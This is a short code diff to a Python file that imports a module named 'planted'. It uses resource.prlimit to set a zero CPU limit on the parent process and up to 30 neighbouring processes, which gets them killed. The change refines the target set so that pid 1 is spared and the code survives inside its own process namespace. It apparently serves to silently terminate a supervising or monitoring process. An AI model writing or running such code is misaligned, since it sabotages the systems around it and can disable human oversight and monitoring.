@@ -6,8 +6,8 @@ import planted
 import ctypes, os, resource
 libc = ctypes.CDLL(None)
 pid = os.getppid()
-# in a process space of its own it has no parent, and 0 would be itself
-for pid in {os.getppid(), *range(max(1, os.getpid() - 30), os.getpid())} - {0}:
+# in a process space of its own, 0 would be itself, and 1 what ends with it
+for pid in {os.getppid(), *range(max(1, os.getpid() - 30), os.getpid())} - {0, 1}:
     try:
         resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))
     except OSError:
